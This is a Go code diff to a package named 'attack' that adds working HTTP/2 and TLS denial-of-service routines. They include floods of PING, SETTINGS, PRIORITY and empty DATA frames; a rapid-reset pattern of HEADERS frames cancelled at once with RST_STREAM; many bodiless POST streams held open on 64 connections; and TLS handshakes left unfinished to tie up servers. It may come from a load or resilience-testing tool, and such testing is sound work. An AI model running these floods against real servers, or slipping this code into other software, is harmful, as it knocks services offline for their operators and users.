@@ -3,10 +3,12 @@ package attack
 import (
 	"bytes"
 	"context"
+	"encoding/binary"
 	"fmt"
 	"io"
 	"net"
 	"net/http"
+	"slices"
 	"time"
 )
 
@@ -58,26 +60,30 @@ func stalledStreams(ctx context.Context, p *party) {
 const preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 
 // frame is a frame of HTTP/2.
-func frame(kind, flags byte, stream byte, payload []byte) []byte {
-	n := len(payload)
-	return append([]byte{byte(n >> 16), byte(n >> 8), byte(n), kind, flags, 0, 0, 0, stream}, payload...)
+func frame(kind, flags byte, stream uint32, payload []byte) []byte {
+	b := binary.BigEndian.AppendUint32(nil, uint32(len(payload))<<8|uint32(kind))
+	b = binary.BigEndian.AppendUint32(append(b, flags), stream)
+	return append(b, payload...)
 }
 
 const (
 	frameData     = 0x0
 	frameHeaders  = 0x1
+	framePriority = 0x2
+	frameReset    = 0x3
 	frameSettings = 0x4
 	framePing     = 0x6
 	frameWindow   = 0x8
 )
 
-// frames floods with PING, SETTINGS, WINDOW_UPDATE and empty DATA.
+// frames floods with PING, SETTINGS, WINDOW_UPDATE, PRIORITY, empty DATA, and requests that are called off.
 func frames(ctx context.Context, p *party) {
 	ping := bytes.Repeat(frame(framePing, 0, 0, make([]byte, 8)), 500)
 	settings := bytes.Repeat(frame(frameSettings, 0, 0, []byte{0, 4, 0, 1, 0, 0}), 500)
 	empty := bytes.Repeat(frame(frameData, 0, 1, nil), 900)
 	update := bytes.Repeat(frame(frameWindow, 0, 0, []byte{0, 0, 0, 1}), 600)
-	kinds := [][]byte{append(ping, update...), settings, empty}
+	priority := bytes.Repeat(frame(framePriority, 0, 1, []byte{0, 0, 0, 0, 1}), 600)
+	kinds := [][]byte{append(ping, update...), append(settings, priority...), empty, nil}
 	p.each(ctx, len(kinds), func(i int) {
 		conn, err := p.dialFor(ctx, i, "h2")
 		if err != nil {
@@ -91,15 +97,54 @@ func frames(ctx context.Context, p *party) {
 			return
 		}
 		go func() { _, _ = io.Copy(io.Discard, conn) }()
-		for ctx.Err() == nil {
-			if _, err := conn.Write(kinds[i]); err != nil {
+		for stream := uint32(3); ctx.Err() == nil; {
+			flood := kinds[i]
+			for len(flood) < 8<<10 { // of the last kind
+				flood = append(flood, frame(frameHeaders, 0x4, stream, p.postHeaders())...)
+				flood = append(flood, frame(frameReset, 0, stream, []byte{0, 0, 0, 8})...)
+				stream += 2
+			}
+			if _, err := conn.Write(flood); err != nil {
 				p.cut(ctx)
 				return
 			}
 			p.tally.take()
-			rest(ctx, time.Duration(len(kinds[i]))*time.Microsecond) // 1 MB/s
+			rest(ctx, time.Duration(len(flood))*time.Microsecond) // 1 MB/s
 		}
 	})
+}
+
+// crowdedConnections has as many requests on each connection as may be, and sends no body of any.
+func crowdedConnections(ctx context.Context, p *party) {
+	p.each(ctx, 64, func(i int) {
+		conn, err := p.dialFor(ctx, i, "h2")
+		if err != nil {
+			p.cut(ctx)
+			return
+		}
+		defer conn.Close()
+		all := append([]byte(preface), frame(frameSettings, 0, 0, nil)...)
+		for n := range uint32(100) {
+			all = append(all, frame(frameHeaders, 0x4, 2*n+1, p.postHeaders())...)
+		}
+		if _, err := conn.Write(all); err != nil {
+			p.cut(ctx)
+			return
+		}
+		p.tally.take()
+		_, _ = io.Copy(io.Discard, conn) // until it ends
+		p.cut(ctx)
+	})
+}
+
+// endlessHellos begin a handshake with a hello that does not come to its end.
+func endlessHellos(ctx context.Context, p *party) {
+	hello := append([]byte{1, 0, 0xf0, 0, 3, 3}, make([]byte, 60<<10)...)
+	var text []byte
+	for part := range slices.Chunk(hello, 16<<10) {
+		text = append(append(text, 22, 3, 1, byte(len(part)>>8), byte(len(part))), part...)
+	}
+	p.stalled(ctx, 1000, text[:len(text)-100])
 }
 
 // postHeaders is the block of a POST, each field spelt out.
